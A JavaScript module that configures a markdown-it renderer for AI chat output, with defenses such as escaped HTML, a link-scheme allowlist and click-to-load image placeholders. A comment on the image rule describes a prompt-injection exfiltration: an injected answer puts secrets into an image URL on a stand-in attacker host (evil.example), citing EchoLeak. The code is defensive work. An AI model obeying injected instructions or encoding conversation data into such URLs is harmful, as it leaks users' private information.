// The one markdown-it instance every rendering path shares, configured for model output:
// raw HTML is shown as text, links are limited to http(s) and mailto, images become a
// click-to-load placeholder, code blocks get a header with a copy button (a ```mermaid block is
// marked to become a diagram once it is finished, see diagrams.js), math goes to KaTeX, and
// "- [ ]" items are task lists.
import markdownit from "../../vendor/markdown-it.js";
import { mathPlugin } from "./math.js";
import { taskListPlugin } from "./tasks.js";

const LINK_SCHEMES = /^(?:https?:|mailto:)/i;
const IMAGE_SCHEMES = /^https?:/i;

export function isAllowedLink(url) {
  return LINK_SCHEMES.test(String(url).trim());
}

export function isAllowedImage(url) {
  return IMAGE_SCHEMES.test(String(url).trim());
}

export const md = markdownit({ html: false, linkify: true, typographer: false });

// Without a scheme linkify guesses hosts from top-level domains, and model answers are full of
// file names that look like hosts (setup.py, main.rs, README.md): only link what says http(s),
// www. or is an e-mail address.
md.linkify.set({ fuzzyLink: false });

md.use(mathPlugin);
md.use(taskListPlugin);

// markdown-it's own check only rejects a few bad schemes; relative links and every other scheme
// would still render. A link that fails here stays as its markdown text.
md.validateLink = isAllowedLink;

const escapeHtml = md.utils.escapeHtml;

function codeBlockHtml(content, lang) {
  const langClass = lang ? ` class="language-${escapeHtml(lang)}"` : "";
  const diagram = lang.toLowerCase() === "mermaid" ? " md-diagram" : "";
  return (
    `<div class="md-code${diagram}"><div class="md-code-bar">` +
    `<span class="md-code-lang">${escapeHtml(lang)}</span>` +
    '<button type="button" class="md-copy" aria-label="Copy code">Copy</button>' +
    `</div><pre><code${langClass}>${escapeHtml(content)}</code></pre></div>\n`
  );
}

export function fenceLanguage(info) {
  const text = info ? md.utils.unescapeAll(info).trim() : "";
  return text.split(/\s+/)[0] || "";
}

md.renderer.rules.fence = (tokens, idx) =>
  codeBlockHtml(tokens[idx].content, fenceLanguage(tokens[idx].info));

md.renderer.rules.code_block = (tokens, idx) => codeBlockHtml(tokens[idx].content, "");

// A person's own message keeps the line breaks they typed (Shift+Enter), which markdown would
// join into one line; model answers are rendered as markdown has it. `env.breaks` asks for it.
md.renderer.rules.softbreak = (tokens, idx, options, env) =>
  options.breaks || env?.breaks ? "<br>\n" : "\n";

// An image in model output is never fetched on its own. A prompt-injected answer can put the
// conversation into an image URL (https://evil.example/?q=<secret>) and the browser would send
// it the moment the <img> exists, without any click (EchoLeak, CVE-2025-32711). So an image
// renders as a button naming the host; the picture is fetched only when the reader asks.
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet("src") || "";
  const alt = self.renderInlineAsText(token.children, options, env);
  if (!isAllowedImage(src)) return escapeHtml(alt);
  let host = "";
  try {
    host = new URL(src).host;
  } catch {
    return escapeHtml(alt);
  }
  return (
    `<button type="button" class="md-image" data-src="${escapeHtml(src)}"` +
    ` data-alt="${escapeHtml(alt)}">` +
    `<span class="md-image-label">${escapeHtml(alt || "image")}</span>` +
    `<span class="md-image-host">Load image from ${escapeHtml(host)}</span></button>`
  );
};

// Table alignment comes as a style attribute, which a strict style-src policy refuses; a class
// carries the same meaning.
function alignedCell(tokens, idx, options, env, self) {
  const token = tokens[idx];
  const style = token.attrGet("style");
  if (style) {
    token.attrs = token.attrs.filter(([name]) => name !== "style");
    const align = /text-align:\s*(left|right|center)/.exec(style);
    if (align) token.attrJoin("class", `md-align-${align[1]}`);
  }
  return self.renderToken(tokens, idx, options);
}
md.renderer.rules.th_open = alignedCell;
md.renderer.rules.td_open = alignedCell;
